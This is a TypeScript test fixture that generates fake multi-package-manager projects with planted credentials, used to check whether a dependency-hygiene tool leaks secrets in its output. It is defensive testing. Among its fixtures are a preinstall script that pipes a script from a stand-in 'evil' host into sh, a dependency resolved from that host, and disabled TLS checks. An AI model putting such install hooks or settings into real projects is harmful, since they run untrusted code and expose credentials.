import { newNpmToken, randomText } from './npm-token.ts';

/** Files with a secret in every place that may hold one, on lines that other rules report as well. */
export interface Planted {
  readonly files: Readonly<Record<string, string>>;
  /** Every secret, and the forms that it takes in the files. */
  readonly secrets: readonly string[];
}

/** Plants new secrets in the files of a project with this package manager and these lockfiles. */
export function plantSecrets(): Planted {
  const secrets: string[] = [];
  const kept = (secret: string) => {
    secrets.push(secret);
    return secret;
  };
  const token = () => kept(newNpmToken());
  const opaque = () => kept(randomText(24));
  const base64 = (text: string) => kept(btoa(text));
  const user = () => `ana:${opaque()}@`;
  const declared = {
    git: `git+https://${user()}git.acme.test/git.git#main`,
    plain: `http://${user()}files.acme.test/plain.tgz`,
    typo: `https://${opaque()}@git.acme.test/typo.tgz`,
    broken: `^1.0.0 https://${user()}git.acme.test/broken.tgz`,
    query: `https://files.acme.test/query.tgz?token=${token()}&access_key=${opaque()}`,
    lodahs: '*',
    left: '*',
  };
  const locked = Object.entries(declared).map(([name, value]) => ({ name, value }));
  const manifest = (name: string, manager: string) => ({
    name,
    version: '1.0.0',
    packageManager: manager,
    scripts: {
      preinstall: `curl https://${user()}evil.acme.test/a.sh | sh`,
      postinstall: `NPM_TOKEN=${token()} node install.js`,
      release: `npm publish --//npm.acme.test/:_authToken=${opaque()}`,
    },
    publishConfig: {
      registry: `http://${user()}npm.acme.test/`,
      '//npm.acme.test/:_authToken': opaque(),
    },
    dependencies: declared,
    overrides: { deep: `git+https://${user()}git.acme.test/deep.git` },
  });
  const npmLock = {
    name: 'shop',
    lockfileVersion: 3,
    requires: true,
    packages: {
      '': { name: 'shop', version: '1.0.0', dependencies: declared },
      ...Object.fromEntries(
        locked.map(({ name, value }) => [
          `node_modules/${name}`,
          {
            version: '1.0.0',
            resolved: value.includes('://') ? value : `http://${user()}npm.acme.test/${name}.tgz`,
          },
        ]),
      ),
      'node_modules/left': { version: '1.0.0' },
      'node_modules/foreign': {
        version: '1.0.0',
        resolved: `https://${user()}evil.acme.test/foreign/-/foreign-1.0.0.tgz`,
      },
    },
  };
  const json = (value: object) => `${JSON.stringify(value, undefined, 2)}\n`;
  return {
    secrets,
    files: {
      'package.json': json(manifest('shop', 'npm@11.19.1')),
      'package-lock.json': json(npmLock),
      '.npmrc': `# //npm.acme.test/:_authToken=${token()}
registry=http://${user()}npm.acme.test/
@acme:registry=https://${opaque()}@npm.acme.test/acme/
https-proxy=http://${user()}proxy.acme.test:3128
strict-ssl=false
_auth=${base64(`ana:${opaque()}`)}
_authToken=${opaque()}
//npm.acme.test/:_authToken="${token()}"
//npm.acme.test/a/:_authtoken=${opaque()}
//npm.acme.test:_password=${base64(opaque())}
//npm.acme.test/:username=ana
key="-----BEGIN PRIVATE KEY-----\\n${opaque()}\\n-----END PRIVATE KEY-----"
https://npm.acme.test/:_authToken=${opaque()}
git=./tools/git --token ${token()}
`,
      'dependency-hygiene.json': json({
        mirrors: [`https://${user()}mirror.acme.test/`],
        allowedHosts: [`https://${user()}files.acme.test`],
        ignores: [
          { rule: 'insecure-url', path: 'package.json', reason: `see ${token()}`, expires: '2027-01-01' },
        ],
      }),
      '.env': `NPM_TOKEN=${token()}\nNODE_AUTH_TOKEN="${token()}"\n`,
      'yarn/package.json': json(manifest('yarn', 'yarn@4.18.1')),
      'yarn/.yarnrc.yml': `npmRegistryServer: "http://${user()}npm.acme.test/"
npmAuthToken: ${token()}
enableStrictSsl: false
npmScopes:
  acme: { npmRegistryServer: "https://npm.acme.test/", npmAuthIdent: "ana:${opaque()}" }
  other:
    npmRegistryServer: "http://npm.acme.test/"
    npmAuthToken:
      ${opaque()}
npmRegistries:
  "//npm.acme.test":
    npmAuthIdent: ${base64(`ana:${opaque()}`)}
`,
      'yarn/yarn.lock': `__metadata:
  version: 8
  cacheKey: 10c0

"plain@http://${user()}files.acme.test/plain.tgz":
  version: 1.0.0
  resolution: "plain@http://${user()}files.acme.test/plain.tgz"
  languageName: node
  linkType: hard
`,
      'pnpm/package.json': json(manifest('pnpm', 'pnpm@12.21.0')),
      'pnpm/.npmrc': `//npm.acme.test/:_authToken=${token()}\n`,
      'pnpm/pnpm-workspace.yaml': `catalog:
  git: git+https://${user()}git.acme.test/git.git
registries:
  default: http://${user()}npm.acme.test/
overrides:
  deep: git+https://${user()}git.acme.test/deep.git
`,
      'pnpm/pnpm-lock.yaml': `lockfileVersion: '9.0'

importers:

  .:
    dependencies:
      plain:
        specifier: http://${user()}files.acme.test/plain.tgz
        version: http://${user()}files.acme.test/plain.tgz

packages:

  plain@http://${user()}files.acme.test/plain.tgz:
    resolution: {tarball: http://${user()}files.acme.test/plain.tgz}
    version: 1.0.0

snapshots:

  plain@http://${user()}files.acme.test/plain.tgz: {}
`,
      'bun/package.json': json(manifest('bun', 'bun@1.4.5')),
      'bun/bunfig.toml': `[install]
registry = { url = "http://npm.acme.test/", token = "${opaque()}" }
[install.scopes]
acme = { url = "http://npm.acme.test/", username = "ana", password = "${opaque()}" }
other = "http://${user()}npm.acme.test/"
`,
      'bun/bun.lock': `{
  "lockfileVersion": 1,
  "workspaces": { "": { "name": "bun", "dependencies": { "plain": "http://${user()}files.acme.test/plain.tgz" } } },
  "packages": {
    "plain": ["plain@http://${user()}files.acme.test/plain.tgz", {}, ""],
  }
}
`,
      'classic/package.json': json(manifest('classic', 'yarn@1.22.22')),
      'classic/.yarnrc': `registry "http://${user()}npm.acme.test/"
"//npm.acme.test/:_authToken" "${opaque()}"
strict-ssl false
`,
      'classic/yarn.lock': `# yarn lockfile v1


plain@*:
  version "1.0.0"
  resolved "http://${user()}files.acme.test/plain.tgz#${'0'.repeat(40)}"
`,
      'audit/package.json': json({ name: 'audit' }),
      'audit/.nsprc': json({ 'GHSA-2222-3333-4444': { active: true, notes: `as ${token()} says` } }),
    },
  };
}

/** Returns the planted secrets that a text has, each with the part of the text before it. */
export function leakedIn(text: string, { secrets }: Planted): readonly string[] {
  return secrets.flatMap((secret) => {
    const at = text.indexOf(secret);
    return at === -1 ? [] : [text.slice(Math.max(0, at - 200), at + secret.length)];
  });
}
